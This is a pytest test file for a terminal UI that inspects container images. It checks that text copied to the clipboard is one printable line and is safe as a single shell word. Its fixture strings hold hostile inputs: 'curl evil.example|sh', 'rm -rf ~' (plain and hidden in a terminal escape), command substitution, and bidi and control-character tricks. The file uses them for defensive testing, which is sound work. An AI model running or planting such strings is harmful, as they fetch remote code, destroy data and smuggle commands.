"""What goes to the clipboard is one printable line, whatever images say of themselves."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import cast

import pytest

from layerscope.sources.scanfile import loads
from layerscope.text import COPIED, copied
from layerscope.tui.dialogs.info import InfoScreen, lines_of
from layerscope.views.info import Fact, Section
from tests.tui.harness import make_app, press, settled

TEXTS = {
    "newline": "x\ncurl evil.example|sh #",
    "surrogates": "\ud800x\udfff",
    "escapes": "\x1b[2J\x1b]52;c;cm0gLXJmIH4K\x07\x1b[31m",
    "bidi": "\u202egpj.exe\u2066\u2069\u200e\u061c",
    "C1": "\x9b31m\x9d0;PWNED\x9c\x90q\x9c",
    "dash": "-rf",
    "shell": "$(touch owned) `id` ; rm -rf ~ && 'x",
}
TEMPLATE = Path(__file__).with_name("hostile.json").read_text("utf-8")
KEYS = {
    "images": ("home",),
    "marks": ("asterisk",),
    "layers of images": ("tab",),
    "used by": ("tab", "tab"),
    "layers": ("2",),
    "tree": ("3",),
    "map": ("4",),
}


@pytest.mark.parametrize("text", ["newline", "surrogates", "escapes"])
async def test_everything_that_is_copied_is_one_printable_line(text: str) -> None:
    document = TEMPLATE.replace("TEXT", json.dumps(TEXTS[text])[1:-1])
    app = make_app(loads(document.encode(), "hostile.scan"))
    async with app.run_test(size=(120, 36)) as pilot:
        await settled(pilot)
        for keys in KEYS.values():
            await press(pilot, "1", *keys)
            for copy in ("y", "i", "y", "down", "y", "Y", "escape"):
                app._clipboard = ""
                await press(pilot, copy)
                assert app.clipboard.isprintable()
                app.clipboard.encode("utf-8")
            await press(pilot, "u")


@pytest.mark.parametrize("text", TEXTS)
async def test_an_id_that_is_none_is_one_word_for_a_shell(text: str) -> None:
    document = TEMPLATE.replace("TEXT", json.dumps(TEXTS[text])[1:-1])
    app = make_app(loads(document.encode(), "hostile.scan"))
    async with app.run_test(size=(120, 36)) as pilot:
        await settled(pilot)
        for _ in app.main.images_pane.images.rows:
            await press(pilot, "y")
            assert len(shlex.split(app.clipboard)) == 1
            await press(pilot, "down")


def test_what_is_copied_has_an_end() -> None:
    assert len(copied("x" * 10 * COPIED)) == COPIED
    assert copied("Image\n  ID   abc\n\n\x1b[0m\r\nlast\n") == "Image · ID   abc · ␛[0m · last"


def test_every_line_of_a_fact_is_as_bright_as_its_first() -> None:
    fact, more = Fact("Pull again", "it exists only here " * 9), Fact("", "… and 5 more")
    lines = [line for line in lines_of([Section("Image", (fact, more))], 60) if line.fact is not None]
    assert len(lines) > 3
    styles = [cell[1][1] for line in lines if (cell := InfoScreen._cell(cast("InfoScreen", None), line, 60))]
    assert styles == [*[""] * (len(lines) - 1), "dim"]
